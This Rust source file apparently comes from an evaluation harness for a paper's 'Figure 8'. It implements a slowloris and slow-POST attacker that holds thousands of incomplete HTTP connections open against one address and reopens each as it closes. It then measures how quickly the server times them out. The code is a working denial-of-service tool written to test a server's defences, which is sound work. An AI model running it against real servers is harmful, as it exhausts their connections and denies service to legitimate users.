//! Figure 8's attacker: slowloris heads and slow POST bodies against one
//! HTTP address, each connection opened again as soon as the server closes
//! it, for a fixed time.
//!
//! A head sends its request line and then one header line per `--trickle`
//! seconds and never ends it; a POST sends a whole head declaring a large
//! body and then one byte per `--trickle` seconds. The server is expected
//! to close both (a header timeout, a minimum body rate); each close is
//! timed from the connection's start, and a POST's answer status counted.
//!
//! Prints `{"ready": ...}` once every connection is open, and the tally
//! when `--duration` ends.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::{Mutex, Semaphore};

use crate::stats::emit;

#[derive(Debug, clap::Args)]
pub struct SlowlorisArgs {
    /// The server's HTTP address, IP:PORT
    #[arg(long)]
    pub addr: SocketAddr,
    /// The Host header to send
    #[arg(long)]
    pub host: String,
    /// Slow heads held open at once
    #[arg(long, default_value_t = 5000)]
    pub heads: usize,
    /// Slow POST bodies held open at once
    #[arg(long, default_value_t = 500)]
    pub posts: usize,
    /// Seconds between two trickles on one connection
    #[arg(long, default_value_t = 1.0)]
    pub trickle: f64,
    /// Seconds of attack
    #[arg(long, default_value_t = 30.0)]
    pub duration: f64,
}

#[derive(Default)]
struct Tally {
    opened: u64,
    /// Connections the server closed, and after how long (ms).
    closed: Vec<u64>,
    /// POST answers by status.
    statuses: std::collections::BTreeMap<u16, u64>,
    connect_errors: u64,
}

#[derive(Clone, Copy)]
enum Kind {
    Head,
    Post,
}

pub async fn run(args: SlowlorisArgs) -> anyhow::Result<()> {
    anyhow::ensure!(args.trickle > 0.0, "--trickle must be above 0");
    let heads = Arc::new(Mutex::new(Tally::default()));
    let posts = Arc::new(Mutex::new(Tally::default()));
    let end = Instant::now() + Duration::from_secs_f64(args.duration);
    let trickle = Duration::from_secs_f64(args.trickle);
    let ready = Arc::new(Semaphore::new(0));
    let mut tasks = tokio::task::JoinSet::new();
    let all = [
        (Kind::Head, args.heads, &heads),
        (Kind::Post, args.posts, &posts),
    ];
    for (kind, count, tally) in all {
        for _ in 0..count {
            let (tally, ready, host) = (tally.clone(), ready.clone(), args.host.clone());
            let addr = args.addr;
            tasks.spawn(async move {
                let mut signal = Some(&*ready);
                while Instant::now() < end {
                    if hold(kind, addr, &host, trickle, end, &tally, signal).await {
                        signal = None;
                    }
                }
            });
        }
    }
    // Every connection is open (or has already been closed once).
    let total = u32::try_from(args.heads + args.posts)?;
    let _ = tokio::time::timeout_at(
        tokio::time::Instant::from_std(end),
        ready.acquire_many(total),
    )
    .await;
    let opened = heads.lock().await.opened + posts.lock().await.opened;
    emit(&json!({"ready": true, "opened": opened}));
    while tasks.join_next().await.is_some() {}
    let summary = |t: &Tally| {
        let mut closed = t.closed.clone();
        closed.sort_unstable();
        let at =
            |q: usize| closed.get((closed.len() * q / 100).min(closed.len().saturating_sub(1)));
        json!({
            "opened": t.opened,
            "closed_by_server": closed.len(),
            "close_p50_ms": at(50),
            "close_max_ms": closed.last(),
            "statuses": t.statuses,
            "connect_errors": t.connect_errors,
        })
    };
    emit(&json!({
        "heads": summary(&*heads.lock().await),
        "posts": summary(&*posts.lock().await),
    }));
    Ok(())
}

/// One connection, held until the server closes it or the attack ends;
/// `opened` gets a permit once its head is sent. False when it could not
/// connect.
async fn hold(
    kind: Kind,
    addr: SocketAddr,
    host: &str,
    trickle: Duration,
    end: Instant,
    tally: &Mutex<Tally>,
    opened: Option<&Semaphore>,
) -> bool {
    let start = Instant::now();
    let Ok(Ok(stream)) =
        tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(addr)).await
    else {
        tally.lock().await.connect_errors += 1;
        tokio::time::sleep(Duration::from_millis(100)).await;
        return false;
    };
    tally.lock().await.opened += 1;
    let (mut read, mut write) = stream.into_split();
    let head = match kind {
        Kind::Head => format!("GET / HTTP/1.1\r\nHost: {host}\r\n"),
        Kind::Post => {
            format!("POST /upload HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000000\r\n\r\n")
        }
    };
    let trickling = async {
        if write.write_all(head.as_bytes()).await.is_err() {
            return;
        }
        if let Some(opened) = opened {
            opened.add_permits(1);
        }
        let mut n = 0u64;
        loop {
            tokio::time::sleep(trickle).await;
            n += 1;
            let bytes = match kind {
                Kind::Head => format!("x-slow-{n}: 1\r\n").into_bytes(),
                Kind::Post => b"x".to_vec(),
            };
            if write.write_all(&bytes).await.is_err() {
                return;
            }
        }
    };
    let answered = async {
        let mut got = Vec::new();
        let _ = read.read_to_end(&mut got).await;
        got
    };
    tokio::select! {
        got = answered => {
            let mut tally = tally.lock().await;
            tally.closed.push(start.elapsed().as_millis() as u64);
            if let Kind::Post = kind {
                let status = std::str::from_utf8(got.get(9..12).unwrap_or_default())
                    .ok()
                    .and_then(|s| s.parse().ok())
                    .unwrap_or(0);
                *tally.statuses.entry(status).or_default() += 1;
            }
        }
        _ = trickling => {
            // A write failed: the server reset the connection.
            tally.lock().await.closed.push(start.elapsed().as_millis() as u64);
        }
        _ = tokio::time::sleep_until(tokio::time::Instant::from_std(end)) => {}
    }
    true
}
